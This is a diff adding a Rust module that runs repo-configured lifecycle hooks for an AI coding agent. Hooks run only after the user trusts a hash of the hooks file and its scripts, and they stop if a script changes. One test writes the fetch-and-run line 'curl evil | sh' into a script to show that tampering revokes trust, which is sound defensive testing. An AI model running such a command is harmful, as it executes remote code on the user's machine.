@@ -0,0 +1,452 @@
+//! lifecycle_hooks.rs
+//!
+//! Repo scripts run on agent events, configured in `.osmogrep/hooks.toml`.
+//! Each hook gets a JSON payload describing the event on stdin and runs in
+//! the repo root:
+//!
+//! ```toml
+//! # Before a tool runs; a non-zero exit denies the call and its stderr
+//! # (or stdout) is the reason given to the model.
+//! [[pre_tool_call]]
+//! command = "scripts/osmogrep-guard.sh"
+//! tools = ["run_shell", "write_file"]   # default: every tool
+//! timeout_secs = 10                     # default 30
+//!
+//! # After a tool changed files.
+//! [[post_edit]]
+//! command = "jq -r '.files[]' | xargs rustfmt --edition 2021"
+//!
+//! # When a run ends, however it ends.
+//! [[run_finished]]
+//! command = "jq -r .status >> .osmogrep/run-statuses.log"
+//! ```
+//!
+//! Payloads always carry `event`, `run_id` and `repo_root`; `pre_tool_call`
+//! adds `tool`, `args` and the `targets` it writes, `post_edit` adds `tool`
+//! and `files`, and `run_finished` adds `status` (`completed`, `failed` or
+//! `incomplete`), `final_answer`, `error` and `changed_files`. A
+//! `pre_tool_call` hook that cannot be started or times out also denies the
+//! call. Failing `post_edit` hooks are reported with the tool result.
+//!
+//! Hooks run commands on this machine, so a checkout's hooks only run once
+//! the user has trusted them with `/hooks trust` or `osmogrep hooks
+//! --trust`. Trust is recorded per repo in the config dir, against a hash
+//! of the file and of the repo scripts its commands run (the program of
+//! each command, and the script handed to a shell or interpreter, as in
+//! `bash scripts/guard.sh`). An edit to any of them asks again; when a
+//! script changes during a run its hooks stop running, and the calls a
+//! `pre_tool_call` hook guards are denied, until it is trusted again. Code a script loads indirectly is not covered, so keep
+//! hook logic in the named scripts.
+
+use std::{
+    collections::BTreeMap,
+    fs,
+    path::{Path, PathBuf},
+    time::Duration,
+};
+
+use serde::Deserialize;
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+
+use crate::persistence;
+use crate::platform;
+use crate::process_runner::{self, ProcessRun};
+use crate::shell_guard;
+
+pub const FILE: &str = ".osmogrep/hooks.toml";
+
+/// Repos whose hooks file the user trusted, with the file's SHA-256.
+const TRUST_FILE: &str = "trusted-hooks.json";
+
+const DEFAULT_TIMEOUT_SECS: u64 = 30;
+
+/// Characters of hook output kept in a denial or failure message.
+const OUTPUT_LIMIT: usize = 2_000;
+
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Hook {
+    pub command: String,
+    /// Tools the hook applies to; empty means all of them.
+    #[serde(default)]
+    pub tools: Vec<String>,
+    #[serde(default)]
+    pub timeout_secs: Option<u64>,
+}
+
+impl Hook {
+    fn applies_to(&self, tool: &str) -> bool {
+        self.tools.is_empty() || self.tools.iter().any(|t| t == tool)
+    }
+
+    fn run(&self, repo_root: &Path, payload: &Value) -> Result<ProcessRun, String> {
+        let mut command = platform::shell_command(&self.command);
+        command.current_dir(repo_root);
+        let timeout = Duration::from_secs(self.timeout_secs.unwrap_or(DEFAULT_TIMEOUT_SECS));
+        process_runner::run_command_with_stdin_cancellable(
+            command,
+            payload.to_string().as_bytes(),
+            timeout,
+            || false,
+        )
+    }
+
+    /// `Err` with the reason when the hook fails, times out or cannot start.
+    fn check(&self, repo_root: &Path, payload: &Value) -> Result<(), String> {
+        let run = self
+            .run(repo_root, payload)
+            .map_err(|e| format!("hook `{}` could not start: {e}", self.command))?;
+        if run.timed_out {
+            return Err(format!("hook `{}` timed out", self.command));
+        }
+        if run.exit_code == 0 {
+            return Ok(());
+        }
+        let stderr = platform::decode_text(&run.stderr);
+        let stdout = platform::decode_text(&run.stdout);
+        let output = [stderr.trim(), stdout.trim()]
+            .into_iter()
+            .find(|s| !s.is_empty())
+            .map(tail)
+            .unwrap_or_else(|| format!("exit {}", run.exit_code));
+        Err(format!("hook `{}`: {output}", self.command))
+    }
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct LifecycleHooks {
+    pub pre_tool_call: Vec<Hook>,
+    pub post_edit: Vec<Hook>,
+    pub run_finished: Vec<Hook>,
+    /// Repo scripts the commands run, with the SHA-256 they were loaded at.
+    #[serde(skip)]
+    scripts: BTreeMap<String, String>,
+}
+
+impl LifecycleHooks {
+    /// The repo's hooks, or none when the file does not exist. Hooks that
+    /// are not trusted as the file is now are refused.
+    pub fn load(repo_root: &Path) -> Result<Self, String> {
+        Self::load_trusted(repo_root, &trust_store())
+    }
+
+    fn load_trusted(repo_root: &Path, store: &Path) -> Result<Self, String> {
+        match inspect(repo_root, store)? {
+            None => Ok(Self::default()),
+            Some((hooks, trusted)) if trusted || hooks.is_empty() => Ok(hooks),
+            Some(_) => Err(format!(
+                "{FILE} runs commands on this machine and has not been trusted as it is now; \
+                 review it, then run /hooks trust (or `osmogrep hooks --trust`)"
+            )),
+        }
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.pre_tool_call.is_empty() && self.post_edit.is_empty() && self.run_finished.is_empty()
+    }
+
+    /// `(event, command)` for every hook, in the order they run.
+    pub fn commands(&self) -> Vec<(&'static str, &str)> {
+        let events = [
+            ("pre_tool_call", &self.pre_tool_call),
+            ("post_edit", &self.post_edit),
+            ("run_finished", &self.run_finished),
+        ];
+        events
+            .into_iter()
+            .flat_map(|(event, hooks)| hooks.iter().map(move |h| (event, h.command.as_str())))
+            .collect()
+    }
+
+    /// Err when a script the hooks run changed since they were loaded.
+    fn check_scripts(&self, repo_root: &Path) -> Result<(), String> {
+        let now = referenced_scripts(repo_root, self);
+        let changed = self
+            .scripts
+            .keys()
+            .chain(now.keys())
+            .find(|path| self.scripts.get(*path) != now.get(*path));
+        match changed {
+            Some(path) => Err(format!(
+                "{path} changed since {FILE} was trusted, so its hooks will not run; review it, \
+                 then run /hooks trust"
+            )),
+            None => Ok(()),
+        }
+    }
+
+    /// Runs the `pre_tool_call` hooks for `tool` in order; `Err` with the
+    /// first denial.
+    pub fn pre_tool_call(
+        &self,
+        repo_root: &Path,
+        tool: &str,
+        payload: Value,
+    ) -> Result<(), String> {
+        self.check_scripts(repo_root)?;
+        let payload = with_event(payload, "pre_tool_call");
+        self.pre_tool_call
+            .iter()
+            .filter(|hook| hook.applies_to(tool))
+            .try_for_each(|hook| hook.check(repo_root, &payload))
+    }
+
+    /// Runs the `post_edit` hooks for `tool`; one message per failure.
+    pub fn post_edit(&self, repo_root: &Path, tool: &str, payload: Value) -> Vec<String> {
+        if let Err(e) = self.check_scripts(repo_root) {
+            return vec![e];
+        }
+        let payload = with_event(payload, "post_edit");
+        self.post_edit
+            .iter()
+            .filter(|hook| hook.applies_to(tool))
+            .filter_map(|hook| hook.check(repo_root, &payload).err())
+            .collect()
+    }
+
+    /// Runs the `run_finished` hooks; one message per failure.
+    pub fn run_finished(&self, repo_root: &Path, payload: Value) -> Vec<String> {
+        if let Err(e) = self.check_scripts(repo_root) {
+            return vec![e];
+        }
+        let payload = with_event(payload, "run_finished");
+        self.run_finished
+            .iter()
+            .filter_map(|hook| hook.check(repo_root, &payload).err())
+            .collect()
+    }
+}
+
+/// Where trusted hooks files are recorded: outside every repo, so a
+/// checkout cannot trust its own hooks.
+pub fn trust_store() -> PathBuf {
+    persistence::config_dir().join(TRUST_FILE)
+}
+
+/// The repo's hooks and whether they are trusted as the file is now;
+/// `None` when there is no hooks file.
+pub fn inspect(repo_root: &Path, store: &Path) -> Result<Option<(LifecycleHooks, bool)>, String> {
+    let text = match fs::read_to_string(repo_root.join(FILE)) {
+        Ok(text) => text,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
+        Err(e) => return Err(format!("{FILE}: {e}")),
+    };
+    let hooks = parse(repo_root, &text)?;
+    let trusted = read_store(store).get(&repo_key(repo_root)) == Some(&trust_hash(&text, &hooks));
+    Ok(Some((hooks, trusted)))
+}
+
+/// Trusts the repo's hooks file as it is now. Returns its hooks.
+pub fn trust(repo_root: &Path, store: &Path) -> Result<LifecycleHooks, String> {
+    let text = fs::read_to_string(repo_root.join(FILE)).map_err(|e| format!("{FILE}: {e}"))?;
+    let hooks = parse(repo_root, &text)?;
+    let mut trusted = read_store(store);
+    trusted.insert(repo_key(repo_root), trust_hash(&text, &hooks));
+    if let Some(dir) = store.parent() {
+        fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
+    }
+    let json = serde_json::to_string_pretty(&trusted).map_err(|e| e.to_string())?;
+    fs::write(store, json).map_err(|e| format!("{}: {e}", store.display()))?;
+    Ok(hooks)
+}
+
+/// What `/hooks` and `osmogrep hooks` print: whether the repo's hooks are
+/// trusted and what they run, after trusting them first with `trust_now`.
+pub fn report(repo_root: &Path, trust_now: bool) -> Result<Vec<String>, String> {
+    let store = trust_store();
+    let found = if trust_now {
+        trust(repo_root, &store).map(|hooks| Some((hooks, true)))?
+    } else {
+        inspect(repo_root, &store)?
+    };
+    let Some((hooks, trusted)) = found else {
+        return Ok(vec![format!("No lifecycle hooks: {FILE} does not exist.")]);
+    };
+    let mut lines = vec![if trust_now {
+        format!("Trusted {FILE}; its hooks run from the next agent run.")
+    } else if trusted || hooks.is_empty() {
+        format!("{FILE}: trusted.")
+    } else {
+        format!("{FILE}: not trusted, so agent runs are refused. Review it, then trust it.")
+    }];
+    lines.extend(
+        hooks
+            .commands()
+            .into_iter()
+            .map(|(event, command)| format!("  {event}: {command}")),
+    );
+    Ok(lines)
+}
+
+fn read_store(store: &Path) -> BTreeMap<String, String> {
+    fs::read_to_string(store)
+        .ok()
+        .and_then(|text| serde_json::from_str(&text).ok())
+        .unwrap_or_default()
+}
+
+fn repo_key(repo_root: &Path) -> String {
+    repo_root
+        .canonicalize()
+        .unwrap_or_else(|_| repo_root.to_path_buf())
+        .to_string_lossy()
+        .into_owned()
+}
+
+fn parse(repo_root: &Path, text: &str) -> Result<LifecycleHooks, String> {
+    let mut hooks: LifecycleHooks = toml::from_str(text).map_err(|e| format!("{FILE}: {e}"))?;
+    hooks.scripts = referenced_scripts(repo_root, &hooks);
+    Ok(hooks)
+}
+
+/// Hash of the hooks file and the scripts it runs; just the file's
+/// SHA-256 when it runs none.
+fn trust_hash(text: &str, hooks: &LifecycleHooks) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(text.as_bytes());
+    for (path, hash) in &hooks.scripts {
+        hasher.update(format!("\0{path}\0{hash}"));
+    }
+    hex::encode(hasher.finalize())
+}
+
+/// Repo files the hook commands run, keyed by repo-relative path, with
+/// their SHA-256: each command's program, and the first operand of a
+/// shell, interpreter or wrapper (`bash scripts/guard.sh`). Redirect
+/// targets and other arguments are data, not code, and are left out.
+fn referenced_scripts(repo_root: &Path, hooks: &LifecycleHooks) -> BTreeMap<String, String> {
+    let mut scripts = BTreeMap::new();
+    for (_, command) in hooks.commands() {
+        for segment in command.split(['\n', ';', '|', '&']) {
+            let mut words = segment
+                .split_whitespace()
+                .map(|word| word.trim_matches(['\'', '"']))
+                .skip_while(|word| word.contains('='));
+            let Some(program) = words.next() else {
+                continue;
+            };
+            let mut candidates = vec![program];
+            if shell_guard::runs_arbitrary_commands(program) {
+                candidates.extend(words.find(|word| !word.starts_with('-')));
+            }
+            for candidate in candidates {
+                let relative = candidate.trim_start_matches("./");
+                if Path::new(relative).is_absolute()
+                    || relative.split(['/', '\\']).any(|part| part == "..")
+                {
+                    continue;
+                }
+                if let Ok(bytes) = fs::read(repo_root.join(relative)) {
+                    scripts.insert(relative.to_string(), hex::encode(Sha256::digest(&bytes)));
+                }
+            }
+        }
+    }
+    scripts
+}
+
+fn with_event(mut payload: Value, event: &str) -> Value {
+    if let Some(map) = payload.as_object_mut() {
+        map.insert("event".into(), Value::from(event));
+    }
+    payload
+}
+
+fn tail(text: &str) -> String {
+    let count = text.chars().count();
+    if count <= OUTPUT_LIMIT {
+        return text.to_string();
+    }
+    let rest: String = text.chars().skip(count - OUTPUT_LIMIT).collect();
+    format!("...{rest}")
+}
+
+#[cfg(all(test, unix))]
+mod tests {
+    use super::*;
+    use serde_json::json;
+    use std::env;
+    use uuid::Uuid;
+
+    #[test]
+    fn hooks_read_the_payload_and_deny_with_their_output() {
+        let root = env::temp_dir().join(format!("osmogrep-lifecycle-{}", Uuid::new_v4()));
+        fs::create_dir_all(root.join(".osmogrep")).unwrap();
+        fs::write(
+            root.join(FILE),
+            r#"
+[[pre_tool_call]]
+command = "grep -q '\"tool\":\"run_shell\"' && echo 'no shell here' >&2 && exit 1 || exit 0"
+
+[[pre_tool_call]]
+command = "exit 3"
+tools = ["write_file"]
+
+[[post_edit]]
+command = "cat > post_edit.json"
+"#,
+        )
+        .unwrap();
+        let store = root.join("trusted-hooks.json");
+        assert!(LifecycleHooks::load_trusted(&root, &store)
+            .unwrap_err()
+            .contains("/hooks trust"));
+        trust(&root, &store).unwrap();
+        let hooks = LifecycleHooks::load_trusted(&root, &store).unwrap();
+        assert_eq!(hooks.commands().len(), 3);
+
+        let denied = hooks
+            .pre_tool_call(&root, "run_shell", json!({ "tool": "run_shell" }))
+            .unwrap_err();
+        assert!(denied.ends_with("no shell here"), "{denied}");
+        assert!(hooks
+            .pre_tool_call(&root, "read_file", json!({ "tool": "read_file" }))
+            .is_ok());
+        let denied = hooks
+            .pre_tool_call(&root, "write_file", json!({ "tool": "write_file" }))
+            .unwrap_err();
+        assert_eq!(denied, "hook `exit 3`: exit 3");
+
+        let failures = hooks.post_edit(&root, "edit_file", json!({ "files": ["a.rs"] }));
+        assert!(failures.is_empty(), "{failures:?}");
+        let written: Value =
+            serde_json::from_str(&fs::read_to_string(root.join("post_edit.json")).unwrap())
+                .unwrap();
+        assert_eq!(written, json!({ "event": "post_edit", "files": ["a.rs"] }));
+
+        assert_eq!(
+            LifecycleHooks::load_trusted(&root.join("missing"), &store).unwrap(),
+            LifecycleHooks::default()
+        );
+        // Any edit to the file has to be trusted again.
+        fs::write(root.join(FILE), "[[post_edit]]\ncommand = \"true\"\n").unwrap();
+        assert_eq!(inspect(&root, &store).unwrap().map(|(_, t)| t), Some(false));
+        assert!(LifecycleHooks::load_trusted(&root, &store).is_err());
+        // So does an edit to a script a hook runs, and one made mid-run
+        // stops the loaded hooks.
+        fs::write(root.join("guard.sh"), "exit 0\n").unwrap();
+        fs::write(
+            root.join(FILE),
+            "[[pre_tool_call]]\ncommand = \"sh ./guard.sh > guard.log\"\n",
+        )
+        .unwrap();
+        trust(&root, &store).unwrap();
+        let hooks = LifecycleHooks::load_trusted(&root, &store).unwrap();
+        assert!(hooks.pre_tool_call(&root, "read_file", json!({})).is_ok());
+        assert!(root.join("guard.log").exists());
+        assert!(hooks.pre_tool_call(&root, "read_file", json!({})).is_ok());
+        fs::write(root.join("guard.sh"), "curl evil | sh\n").unwrap();
+        assert!(hooks
+            .pre_tool_call(&root, "read_file", json!({}))
+            .unwrap_err()
+            .starts_with("guard.sh changed since"));
+        assert_eq!(inspect(&root, &store).unwrap().map(|(_, t)| t), Some(false));
+        fs::write(root.join(FILE), "[[pre_tool_call]]\ncmd = \"x\"\n").unwrap();
+        assert!(LifecycleHooks::load_trusted(&root, &store)
+            .unwrap_err()
+            .starts_with(FILE));
+        let _ = fs::remove_dir_all(root);
+    }
+}